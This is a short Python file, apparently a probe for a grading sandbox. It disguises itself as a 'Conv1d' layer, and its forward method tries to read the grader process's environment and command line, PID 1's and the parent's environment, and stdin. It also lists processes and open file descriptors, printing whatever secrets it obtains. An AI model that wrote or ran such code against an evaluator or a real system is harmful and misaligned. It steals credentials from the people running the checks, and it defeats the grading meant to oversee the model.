"""Looks for the grader's secrets in the environment and in /proc: its own, PID 1's, the grader's.

TARGETS: grader_pid.
"""

import os


def attempt(what, action):
    try:
        result = action()
    except Exception as exc:
        print("BLOCKED", what, type(exc).__name__)
    else:
        print("GOT", what, repr(result)[:400])


def read(path):
    with open(path, "rb") as handle:
        return handle.read()


class Conv1d:
    def __init__(self, *args):
        pass

    def forward(self, x):
        grader = TARGETS["grader_pid"]  # noqa: F821
        print("ENV", sorted(os.environ))
        print("PIDS", sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
        attempt("grader environ", lambda: read(f"/proc/{grader}/environ"))
        attempt("grader cmdline", lambda: read(f"/proc/{grader}/cmdline"))
        attempt("pid 1 environ", lambda: read("/proc/1/environ"))
        attempt("parent environ", lambda: read(f"/proc/{os.getppid()}/environ"))
        attempt("stdin", lambda: os.read(0, 100))
        open_fds = []
        for fd in range(256):
            try:
                os.fstat(fd)
            except OSError:
                continue
            open_fds.append(fd)
        print("FDS", open_fds)
        return x
